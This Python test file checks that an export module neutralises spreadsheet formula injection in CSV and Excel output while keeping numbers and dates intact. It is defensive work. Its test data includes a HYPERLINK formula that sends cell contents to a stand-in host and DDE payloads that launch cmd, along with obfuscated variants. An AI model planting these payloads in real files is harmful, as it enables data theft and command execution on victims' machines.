"""A spreadsheet shows text as text and numbers as numbers."""

import csv
import io
from datetime import date
from decimal import Decimal
from pathlib import Path

import pytest
from openpyxl import Workbook, load_workbook

from orchestration.closing.exports import as_csv
from orchestration.text.spreadsheets import csv_cell, write_cell

FORMULAS = [
    '=HYPERLINK("http://x.invalid?"&A1,"see")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\u00a0=1+1",
    "\uff1d1+1",
    "\uff0b1",
    "\x00=1+1",
    "\x1b[31m=1+1",
    "\u200b=1+1",
    "-",
    "-5 and more",
    "@team",
]


@pytest.mark.parametrize("text", FORMULAS)
def test_text_that_would_be_evaluated_is_marked_as_text(text: str) -> None:
    (cell,) = next(csv.reader([as_csv([{"name": text}], ["name"]).split("\n", 1)[1].rstrip("\n")]))
    assert cell.startswith("'")


@pytest.mark.parametrize("text", FORMULAS)
def test_a_workbook_holds_text_not_formulas(text: str, tmp_path: Path) -> None:
    book = Workbook()
    write_cell(book.active["A1"], text)
    book.save(tmp_path / "book.xlsx")
    cell = load_workbook(tmp_path / "book.xlsx").active["A1"]
    assert cell.data_type == "s"


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        (Decimal("-12.50"), "-12.50"),
        (-3, "-3"),
        (-0.5, "-0.5"),
        ("-12.50", "-12.50"),
        ("+4", "+4"),
        (None, ""),
        (date(2026, 1, 31), "2026-01-31"),
        ("plain = text", "plain = text"),
        ("a\x07b", "ab"),
        ("R&D", "R&D"),
    ],
)
def test_numbers_dates_and_ordinary_text_stay_as_they_are(value: object, expected: str) -> None:
    out = io.StringIO()
    csv.writer(out, lineterminator="").writerow([csv_cell(value), "x"])
    assert out.getvalue() == f"{expected},x"


def test_a_negative_amount_is_a_number_in_a_workbook(tmp_path: Path) -> None:
    book = Workbook()
    write_cell(book.active["A1"], Decimal("-12.50"))
    book.save(tmp_path / "book.xlsx")
    cell = load_workbook(tmp_path / "book.xlsx").active["A1"]
    assert (cell.data_type, cell.value) == ("n", -12.5)
